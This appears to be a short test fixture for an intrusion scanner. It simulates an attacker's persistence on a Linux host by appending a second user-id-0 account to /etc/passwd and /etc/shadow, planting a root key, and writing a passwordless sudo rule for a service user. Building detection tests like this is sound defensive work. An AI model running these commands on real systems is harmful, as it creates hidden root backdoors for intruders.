# id: C02
# mode: scan
# level: suspicious
# due: now
# title: a key of root, a second account with user id 0, and a rule of sudo
. "$here/intruder.sh"
word name
pick user www-data nobody
echo "$name:x:0:0::/root:/bin/bash" >>/etc/passwd
echo "$name:\$6\$saltsalt\$Xh4x0x:19700:0:99999:7:::" >>/etc/shadow
new_key /root
echo "$user ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/10-local
chmod 440 /etc/sudoers.d/10-local
said account "$name"
said path /etc/sudoers.d/10-local
